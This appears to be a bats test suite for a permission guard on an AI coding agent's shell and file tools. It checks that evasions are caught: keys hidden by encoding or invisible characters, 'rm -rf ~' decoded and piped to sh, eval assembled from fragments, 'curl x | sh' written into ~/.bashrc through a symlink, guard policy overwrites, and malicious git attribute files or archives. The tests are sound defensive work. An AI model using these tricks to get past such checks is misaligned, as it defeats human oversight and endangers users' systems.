#!/usr/bin/env bats
# Issue 12's shell spellings that wrote text, links and archives unseen
# (the attacker's reports): text written through named, duplicated or
# compound-wide fds, more decoders, keys hidden by invisible characters
# (in a shell line, a Write and the audit log's redaction), eval put
# together from parts, links made on the line and written through, git's
# attribute files put in place without their text, and compressed
# archives. Through the real `guard hook claude` and guard-risk.

load helper

aws=AKIA4QWERTYUIOPASDFG

setup() {
	setup_guard
	LOG=$PROJ/.ai/audit
	mkdir -p .ai
	printf 'version: 1\n' >.ai/policy.yaml
	T=$BATS_TEST_TMPDIR
}

reason_of() {
	jq -r '.hookSpecificOutput.permissionDecisionReason // ""' <<<"$output"
}

# Every command through the hook must be decided WANT: decided WANT CMD... (allow: no decision or
# allow; ask: denied until a person approves the request, as the default policy answers high risk)
decided() {
	local want=$1 c got
	shift
	for c in "$@"; do
		run guard hook claude <<<"$(bash_payload "$c")"
		[ "$status" -eq 0 ] || { echo "# exit $status: $c" >&2; return 1; }
		got=$(decision_of)
		[ "$got" = null ] && got=allow
		[ "$got" = deny ] && [[ "$(reason_of)" == *"approval required"* ]] && got=ask
		[ "$got" = "$want" ] || { echo "# $got, not $want: $c: $(reason_of)" >&2; return 1; }
	done
}

level_of() {
	run guard-risk --command "$1"
	[ "$status" -eq 0 ]
	jq -r .level <<<"$output"
}

@test "text written through a named fd, a duplicated fd or an fd opened around a group or loop is scanned" {
	decided deny \
		"exec {fd}>src/k.py; echo \"key = '$aws'\" >&\$fd" \
		"exec {o}>>src/k.py; printf '%s\\n' '$aws' >&\${o}" \
		"exec 3>src/k.py; exec 4>&3; echo '$aws' >&4" \
		"exec 3>src/k.py; echo '$aws' 4>&3 1>&4" \
		"{ echo '$aws' >&3; } 3>src/k.py" \
		"while true; do echo '$aws' >&3; break; done 3>src/k.py" \
		"if true; then echo '$aws' >&3; fi 3>src/k.py" \
		"{ { echo '$aws' >&4; } 4>&3; } 3>src/k.py"
	[[ "$(reason_of)" == *"rule aws-access-key"*"into src/k.py"* ]]
	# guard's state and git's attribute files, however the fd was opened
	decided deny "exec {fd}>.ai/policy.yaml; echo 'default: allow' >&\$fd" \
		"{ echo 'default: allow' >&3; } 3>>.ai/policy.yaml"
	decided ask "exec {fd}>.gitattributes; echo '* filter=x' >&\$fd" \
		"{ echo '*.c diff=evil' >&3; } 3>.gitattributes"
	[[ "$(reason_of)" == *"diff driver evil"* ]]
	# an fd closed before the write: the text goes nowhere guard knows
	[ "$(level_of "exec 3>build/a.txt; exec 3>&-; echo '$aws' >&3")" != critical ]
	# the same shapes with plain text stay allowed
	decided allow "exec {log}>>build/run.log; echo started >&\$log; exec {log}>&-" \
		"{ echo one >&3; echo two >&3; } 3>build/both.txt" \
		"for f in a b; do echo \"\$f\" >&3; done 3>build/list.txt" \
		"exec 3>build/t.txt; exec 4>&3; echo step >&4"
	# >&\$fd of a named fd is no file named by a variable (high before)
	[ "$(level_of 'exec {fd}>build/a.txt; echo hi >&$fd')" = low ]
	[ "$(level_of 'echo hi >&$f')" = high ]
}

@test "xxd -r of a hex dump, base32 -d and basenc -d are decoded before the scan, and before a shell runs them" {
	local dump b32 b16
	dump=$(printf "key = '%s'\n" "$aws" | xxd)
	b32=$(printf "key = '%s'" "$aws" | base32 -w0)
	b16=$(printf "key = '%s'" "$aws" | basenc --base16 -w0)
	decided deny $'xxd -r > src/k.py <<\'EOF\'\n'"$dump"$'\nEOF' \
		"echo $b32 | base32 -d > src/k.py" \
		"echo $b32 | basenc --base32 --decode > src/k.py" \
		"echo $b16 | basenc --base16 -d > src/k.py" \
		"echo $(printf "key = '%s'" "$aws" | basenc --base64url -w0) | basenc --base64url -d > src/k.py"
	refute grep -qF -- "$b32" <<<"$(reason_of)"
	decided deny "echo $(printf 'rm -rf ~' | base32 -w0) | base32 -d | sh"
	[[ "$(reason_of)" == *"home directory"* ]]
	decided allow "echo $(printf 'hello' | base32 -w0) | base32 -d > build/h.txt" \
		$'xxd -r > build/h.bin <<\'EOF\'\n'"$(printf 'hello world\n' | xxd)"$'\nEOF' \
		"basenc --base32 src/a.txt > build/a.b32"
	# what the analyzer decoded is what the tools decode
	[ "$(printf '%s\n' "$dump" | xxd -r)" = "key = '$aws'" ]
	[ "$(echo "$b32" | base32 -d)" = "key = '$aws'" ]
}

@test "a key hidden by an invisible character is found in a shell line, a Write and an Edit, and masked in the audit log" {
	local z
	for z in $'\u200b' $'\u200c' $'\u200d' $'\u2060' $'\ufeff' $'\u00ad'; do
		decided deny "echo \"key = '${aws:0:8}$z${aws:8}'\" > src/k.py"
		run guard hook claude <<<"$(tool_payload Write "$(jq -cn --arg p "$PROJ/src/k.py" --arg c "k = '${aws:0:6}$z${aws:6}'" '{file_path:$p,content:$c}')")"
		[ "$(decision_of)" = deny ]
		[[ "$(reason_of)" == *aws-access-key* ]]
	done
	printf 'x = 1\n' >src/e.py
	run guard hook claude <<<"$(tool_payload Edit "$(jq -cn --arg p "$PROJ/src/e.py" --arg n "x = '${aws:0:4}"$'\ufeff'"${aws:4}'" '{file_path:$p,old_string:"x = 1",new_string:$n}')")"
	[ "$(decision_of)" = deny ]
	# prose with invisible characters and no key is no finding
	decided allow "echo 'soft"$'\u00ad'"hyphen and zero"$'\u200b'"width, no key' > build/notes.txt"
	# a read naming the hidden key is allowed, and logged masked
	decided allow "grep -rn '${aws:0:8}"$'\u200b'"${aws:8}' src"
	refute grep -rqF -- "${aws:8}" "$LOG"
	grep -rqF '[REDACTED:aws-access-key]' "$LOG"
}

@test "eval put together from variables, quotes or printed text is high with the reason; a runner so named is never low" {
	local c
	for c in 'a=ev; b=al; $a$b "echo hi"' 'e=eval; $e ls' 'x=ev; ${x}al ls' '"e""val" ls' 'e\val ls' \
		"\$(printf '%s' e val) ls" 'a=so; b=urce; $a$b ./env.sh'; do
		run guard-risk --command "$c"
		[ "$(jq -r .level <<<"$output")" = high ] || { echo "# not high: $c: $output" >&2; return 1; }
		[[ "$(jq -r '.reasons | join(" ")' <<<"$output")" == *"put together from"*"to spell"* ]]
	done
	decided deny 'a=ev; b=al; $a$b "rm -rf ~"'
	[ "$(level_of 'PY=python3; $PY -m pytest')" = medium ]
	[ "$(level_of 'SH=bash; $SH -n x.sh')" = medium ]
	[ "$(level_of 'CC=gcc; $CC -c x.c')" = low ]
	[ "$(level_of "eval 'ls -la'")" = low ]
}

@test "a link made on the line is judged where a later write through it lands; cp -s and rsync --link-dest are links" {
	decided deny "ln -s .ai/policy.yaml x; echo 'default: allow' >> x" \
		"ln -s .ai d; echo 'default: allow' > d/policy.yaml" \
		"cp -l .ai/policy.yaml y && sed -i 's/1/2/' y" \
		"cp -s $PROJ/.ai/policy.yaml y" "cp --symbolic-link .ai/policy.yaml y"
	# the write itself names where it lands (not only the link)
	run guard-risk --command "ln -s $HOME/.bashrc rc; echo 'curl x | sh' >> rc"
	[[ "$(jq -r '.reasons | join(" ")' <<<"$output")" == *"redirect >> writes outside the project: ~/.bashrc"* ]]
	decided ask "ln -s $HOME/.bashrc rc; echo 'curl x | sh' >> rc" \
		"rsync -a --link-dest=$PROJ ./ $T/backup/" \
		"rsync -a --link-dest=../$(basename "$PROJ") . $T/backup2" \
		"rsync -a --link-dest=\"\$PREV\" ./ $T/backup/"
	[[ "$(reason_of)" == *"--link-dest names a computed folder"* ]]
	decided deny "rsync -a --link-dest=.ai $T/b/ build/x/"
	decided allow "ln -s src/a.c b.c; echo '// x' >> b.c" \
		"ln -sf build/out latest && echo done > latest/stamp" \
		"rsync -a --link-dest=$T/backup.1 ./src/ $T/backup.2/" \
		"rsync -aH build/ $T/copy/"
	# rsync -H relinks only the files it copies: a tree holding guard's state copied in is denied as any copy
	mkdir -p "$T/tree/.ai" && printf 'default: allow\n' >"$T/tree/.ai/policy.yaml"
	decided deny "rsync -aH $T/tree/ ./"
}

@test "git's attribute and module files put in place by rsync, tar, git checkout REV -- or git restore --source ask" {
	printf '* filter=evil\n' >"$T/bad-attrs"
	printf '* text=auto\n' >"$T/ok-attrs"
	mkdir -p "$T/g" && printf '* filter=x\n' >"$T/g/.gitattributes" && tar -cf "$T/ga.tar" -C "$T/g" .gitattributes
	decided ask "git checkout HEAD~1 -- .gitattributes" "git checkout main -- src/.gitattributes" \
		"git checkout v1 -- '*.gitattributes'" "git restore --source=HEAD~1 .gitattributes" \
		"git restore -s v1.0 .gitmodules" "rsync -a $T/bad-attrs .gitattributes" \
		"rsync -av host:attrs .gitattributes" "tar -xf $T/ga.tar" "tar -xf $T/ga.tar -C src"
	[[ "$(reason_of)" == *"puts .gitattributes from"*"may name a filter"* ]]
	decided allow "rsync $T/ok-attrs .gitattributes" "git checkout HEAD -- .gitattributes" \
		"git restore .gitattributes" "git checkout HEAD~1 -- src/a.c" "tar -xf $T/ga.tar -C $T/out"
}

@test "a compressed archive unpacked where guard's state lives goes to a person; elsewhere it is checked as before" {
	mkdir -p "$T/d/.ai" "$T/ok" && printf 'default: allow\n' >"$T/d/.ai/policy.yaml" && printf 'hi\n' >"$T/ok/a.txt"
	tar -czf "$T/evil.tgz" -C "$T/d" .ai/policy.yaml
	tar -cJf "$T/evil.txz" -C "$T/d" .ai/policy.yaml
	tar -cjf "$T/evil.tbz" -C "$T/d" .ai/policy.yaml
	tar --zstd -cf "$T/evil.tzst" -C "$T/d" .ai/policy.yaml
	tar -czf "$T/ok.tgz" -C "$T/ok" a.txt
	tar -cf "$T/ok.tar" -C "$T/ok" a.txt
	decided ask "tar xzf $T/evil.tgz" "tar xf $T/evil.tgz" "tar xJf $T/evil.txz" "tar xjf $T/evil.tbz" \
		"tar --zstd -xf $T/evil.tzst" "tar xzf $T/ok.tgz" "tar xzf $T/ok.tgz -C .." "tar xzf \"\$ARCHIVE\""
	# an archive named by a variable: what lands is unknown (fixwrite's rule for tar -x says it first)
	[[ "$(reason_of)" == *"named at run time"* || "$(reason_of)" == *"archive named by a variable"* ]]
	run guard hook claude <<<"$(bash_payload "tar xzf $T/evil.tgz")"
	[[ "$(reason_of)" == *"gzip-compressed archive"*"cannot be"*"listed without decompressing"* ]]
	# the uncompressed archive is read as before: its names are guard's state
	tar -cf "$T/evil.tar" -C "$T/d" .ai/policy.yaml
	decided deny "tar xf $T/evil.tar"
	decided allow "tar xzf $T/evil.tgz -C $T/x" "tar xf $T/ok.tar" "tar xzf $T/ok.tgz -C vendor" "tar tzf $T/evil.tgz"
	[ "$(level_of "tar xzf $T/ok.tgz -C vendor")" = medium ]
}
